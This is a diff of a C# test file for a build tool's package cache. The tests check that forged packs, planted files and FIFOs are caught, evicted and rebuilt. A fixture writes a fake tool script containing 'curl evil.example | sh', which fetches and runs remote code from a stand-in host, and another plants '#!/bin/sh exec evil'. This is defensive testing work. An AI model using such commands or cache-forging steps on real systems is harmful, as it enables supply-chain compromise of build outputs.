@@ -38,24 +38,33 @@ public sealed class CachePoisoningTests : IAsyncLifetime
 
     private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));
 
+    /// <summary>The file list of a package's unpacked tree (which names the pack its files lie in).</summary>
+    private JsonNode FileList(string debSha) =>
+        JsonNode.Parse(File.ReadAllBytes(ContentPath(File.ReadAllText(Path.Combine(_w.Cache, "unpacked-v4", debSha)).Split(' ')[0])))!;
+
     /// <summary>
-    /// What a cache writer can do without the key: store a content blob, a file list naming it for
-    /// /usr/bin/fake-tool, and a pointer to that list sealed with <paramref name="sealWith"/>.
+    /// What a cache writer can do without the key: store a pack that holds the package's files and a program of
+    /// its own, a file list naming that program as /usr/bin/fake-tool, and a pointer to that list sealed with
+    /// <paramref name="sealWith"/>.
     /// </summary>
     private void ForgeUnpackedTree(CacheKey sealWith)
     {
         var debSha = ToolDebSha();
-        var pointer = Path.Combine(_w.Cache, "unpacked-v3", debSha);
-        var manifestSha = File.ReadAllText(pointer).Split(' ')[0];
+        var pointer = Path.Combine(_w.Cache, "unpacked-v4", debSha);
         var evil = "#!/bin/sh\ncurl evil.example | sh\n"u8.ToArray();
-        File.WriteAllBytes(ContentPath(Sha(evil)), evil);
-        var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(manifestSha)))!;
+        var manifest = FileList(debSha);
+        var pack = File.ReadAllBytes(ContentPath((string)manifest["pack"]!));
+        var evilPack = pack.Concat(evil).ToArray();
+        File.WriteAllBytes(ContentPath(Sha(evilPack)), evilPack);
+        manifest["pack"] = Sha(evilPack);
+        manifest["packLength"] = evilPack.Length;
         var entry = manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!;
         entry["sha256"] = Sha(evil);
         entry["size"] = evil.Length;
+        entry["offset"] = pack.Length;
         var forged = Encoding.UTF8.GetBytes(manifest.ToJsonString());
         File.WriteAllBytes(ContentPath(Sha(forged)), forged);
-        File.WriteAllText(pointer, $"{Sha(forged)} {sealWith.Seal("unpacked-tree-v3", debSha, Sha(forged))}\n");
+        File.WriteAllText(pointer, $"{Sha(forged)} {sealWith.Seal("unpacked-tree-v4", debSha, Sha(forged))}\n");
     }
 
     private string ToolIndex(BuildManifest m) => m.Image("tool")!.Index;
@@ -76,7 +85,7 @@ public sealed class CachePoisoningTests : IAsyncLifetime
         AssertLayoutVerifies();
 
         // A pointer in the old unsealed form is refused the same way.
-        var pointer = Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha());
+        var pointer = Path.Combine(_w.Cache, "unpacked-v4", ToolDebSha());
         File.WriteAllText(pointer, File.ReadAllText(pointer).Split(' ')[0] + "\n");
         rebuilt = await _w.BuildAsync(null, null, force: true);
         Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a sealed pointer"));
@@ -96,18 +105,16 @@ public sealed class CachePoisoningTests : IAsyncLifetime
     [Fact]
     public async Task TornFilesOfSeveralPackages_AfterACrash_AreAllRepaired_InOneBuild()
     {
-        // Unpacked files are written without an fsync: a power loss can leave files of several packages empty under
-        // intact, sealed file lists. One build must repair them all (a pass per package met), not just the first.
+        // Unpacked files are written without an fsync: a power loss can leave the packs of several packages empty
+        // or cut short under intact, sealed file lists. One build must repair them all, not just the first.
         var torn = new List<string>();
-        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v3")))
+        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")))
         {
-            var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(File.ReadAllText(pointer).Split(' ')[0])))!;
-            var file = manifest["entries"]!.AsArray().FirstOrDefault(e => (string?)e!["sha256"] != null && (long)e!["size"]! > 0);
-            if (file == null) continue;
-            var sha = (string)file["sha256"]!;
-            if (torn.Contains(sha)) continue;
-            File.WriteAllBytes(ContentPath(sha), []);
-            torn.Add(sha);
+            var manifest = FileList(Path.GetFileName(pointer));
+            var pack = (string)manifest["pack"]!;
+            if ((long)manifest["packLength"]! == 0 || torn.Contains(pack)) continue;
+            File.WriteAllBytes(ContentPath(pack), torn.Count % 2 == 0 ? [] : File.ReadAllBytes(ContentPath(pack))[..1]);
+            torn.Add(pack);
         }
         Assert.True(torn.Count >= 2, $"only {torn.Count} package(s) to tear");
 
@@ -120,21 +127,49 @@ public sealed class CachePoisoningTests : IAsyncLifetime
     [Theory]
     [InlineData(false)]
     [InlineData(true)]
-    public async Task ForgedContentBlob_UnderItsOwnName_IsEvicted_AndRebuilt(bool sameLength)
+    public async Task ForgedBytesInAPack_AreEvicted_AndRebuilt(bool sameLength)
     {
-        var manifestSha = File.ReadAllText(Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha())).Split(' ')[0];
-        var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(manifestSha)))!;
-        var toolSha = (string)manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!["sha256"]!;
-        var original = File.ReadAllBytes(ContentPath(toolSha));
-        var forged = sameLength ? original.Select(b => (byte)(b ^ 1)).ToArray() : Encoding.ASCII.GetBytes("a longer, different program");
-        File.WriteAllBytes(ContentPath(toolSha), forged);
+        var manifest = FileList(ToolDebSha());
+        var pack = (string)manifest["pack"]!;
+        var tool = manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!;
+        var (toolSha, offset, size) = ((string)tool["sha256"]!, (int)(long)tool["offset"]!, (int)(long)tool["size"]!);
+        var original = File.ReadAllBytes(ContentPath(pack));
+        var forged = (byte[])original.Clone();
+        for (var i = offset; i < offset + size; i++) forged[i] ^= 1; // the tool's own bytes, in place
+        // A longer program cannot fit in place: the rest of the pack moves, and the pack's length no longer matches.
+        if (!sameLength) forged = forged[..offset].Concat(Encoding.ASCII.GetBytes("a longer, different program")).Concat(forged[(offset + size)..]).ToArray();
+        File.WriteAllBytes(ContentPath(pack), forged);
 
         var rebuilt = await _w.BuildAsync(null, null, force: true);
         Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
-        // Whichever reader meets it first (the hardening's content check or the layer writer) names the same file.
-        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains(toolSha) && (r.Contains("does not match its SHA-256") || (!sameLength && r.Contains("bytes where its package says"))));
-        Assert.Equal(original, File.ReadAllBytes(ContentPath(toolSha)));
+        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains(pack) && (sameLength
+            ? r.Contains(toolSha) && r.Contains("do not match its SHA-256")
+            : r.Contains("bytes where the list says")));
+        Assert.Equal(original, File.ReadAllBytes(ContentPath(pack)));
         AssertLayoutVerifies();
+    }
+
+    [Fact]
+    public async Task LooseFileUnderAPackedFilesName_IsNotRead()
+    {
+        // Once a sealed list says where a file lies in a pack, that is where it is read from: a file planted in the
+        // store under the same name (what a cache writer could add without the key) is never consulted.
+        // (A pack of one file has that file's name: it is the file. Every other packed file gets a planted twin.)
+        var planted = 0;
+        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")))
+        {
+            var list = FileList(Path.GetFileName(pointer));
+            foreach (var sha in list["entries"]!.AsArray().Select(e => (string?)e!["sha256"]).OfType<string>().Distinct())
+            {
+                if (sha == (string)list["pack"]!) continue;
+                File.WriteAllText(ContentPath(sha), "#!/bin/sh\nexec evil\n");
+                planted++;
+            }
+        }
+        Assert.True(planted >= 2, $"{planted} planted");
+        var rebuilt = await _w.BuildAsync(null, null, force: true);
+        Assert.Equal(_clean.Images.Select(i => (i.Name, i.Index)), rebuilt.Manifest.Images.Select(i => (i.Name, i.Index)));
+        Assert.Empty(rebuilt.CacheRepairs);
     }
 
     [Fact]
@@ -204,16 +239,21 @@ public sealed class CachePoisoningTests : IAsyncLifetime
     [Fact]
     public async Task FifoPlantedInTheCache_DoesNotHangTheBuild_AndIsReplaced()
     {
-        var pointer = Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha());
+        var pointer = Path.Combine(_w.Cache, "unpacked-v4", ToolDebSha());
         var manifestSha = File.ReadAllText(pointer).Split(' ')[0];
-        File.Delete(pointer);
-        HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [pointer]);
-        File.Delete(ContentPath(manifestSha));
-        HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [ContentPath(manifestSha)]);
+        // And the pack of another package, whose sealed list stays intact.
+        var otherPack = Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v4")).Where(p => p != pointer)
+            .Select(p => (string)FileList(Path.GetFileName(p))["pack"]!).First(p => new FileInfo(ContentPath(p)).Length > 0);
+        foreach (var path in new[] { pointer, ContentPath(manifestSha), ContentPath(otherPack) })
+        {
+            File.Delete(path);
+            HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [path]);
+        }
         // Generous bound, not a timing assertion: a FIFO that is opened blocks for ever.
         var rebuilt = await Task.Run(() => _w.BuildAsync(null, null, force: true)).WaitAsync(TimeSpan.FromMinutes(3));
         Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a regular file"));
         Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
         Assert.True(ContentStore.IsRegularFile(pointer));
+        Assert.True(ContentStore.IsRegularFile(ContentPath(otherPack)));
     }
 }
